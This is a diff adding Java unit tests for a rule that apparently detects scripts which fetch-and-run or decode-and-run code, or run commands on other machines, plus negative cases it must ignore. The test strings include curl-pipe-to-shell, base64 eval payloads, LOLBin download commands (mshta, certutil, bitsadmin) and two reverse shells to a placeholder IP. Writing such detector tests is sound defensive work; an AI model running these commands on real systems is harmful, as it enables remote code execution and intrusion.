@@ -94,6 +94,64 @@ class ScriptRuleTest {
   }
 
   @Test
+  void scriptFindsWhatRunsWhatItFetchesOrDecodes() {
+    String url = "https://example.com/x";
+    assertFound(
+        "script",
+        "Run curl -s " + url + " | sh.",
+        "python3 <(curl " + url + ")",
+        "node <(curl -s " + url + ")",
+        "perl -e \"$(wget -qO- " + url + ")\"",
+        "eval \"$(base64 -d " + "<<< aWQ)\"",
+        "python -c \"exec(__import__('base" + "64').b64decode('aWQ'))\"",
+        "php -r \"eval(base" + "64_decode('aWQ'));\"",
+        "eval(atob(" + "'aWQ'))",
+        "powershell /enc " + Plant.base64("w\0h\0o\0a\0m\0i\0"),
+        "Invoke-WebRequest " + url + " -OutFile x.ps1; " + ".\\x.ps1",
+        "mshta " + url,
+        "regsvr32 /s /i:" + url + " scrobj.dll",
+        "certutil -urlcache -f " + url + " x",
+        "bitsadmin /transfer j " + url + " x");
+  }
+
+  @Test
+  void scriptFindsWhatRunsElsewhereWithOptionsBeforeIt() {
+    assertFound(
+        "script",
+        "docker exec -it store " + "bash",
+        "docker exec store " + "sh -c ls",
+        "podman exec store " + "ls",
+        "kubectl -n prod exec agent-0 " + "-- sh",
+        "salt \"*\" " + "cmd.run ls",
+        "ansible web " + "-m ping",
+        "ansible-playbook -i prod " + "site.yml",
+        "Invoke-Command node1 " + "{ ls }",
+        "ssh node1 -- " + "ls",
+        "bash -i >& /dev/" + "tcp/192.0.2.1/99",
+        "nc -e /bin/" + "sh 192.0.2.1 99");
+  }
+
+  @Test
+  void scriptLeavesSentencesAboutRemoteAndFetchedCommandsAlone() {
+    assertNotFound(
+        "script",
+        "kubectl exec permission is revoked",
+        "Each kubectl exec call is logged.",
+        "kubectl exec calls: none",
+        "aws ssm send-command rights revoked",
+        "gcloud compute ssh blocked",
+        "plink deleted from the image",
+        "psexec \\\\ usage is forbidden",
+        "ansible -a is not used",
+        "Never \"curl ... | sh\" here.",
+        "\"wget | sh\" is banned",
+        "curl, wget | bash: refused",
+        "base64 -d | bash patterns are refused",
+        "the -EncodedCommand argument is refused",
+        "the fresh (curl 8.5) build");
+  }
+
+  @Test
   void scriptFindsASettingBeforeACommand() {
     assertFound(
         "script",
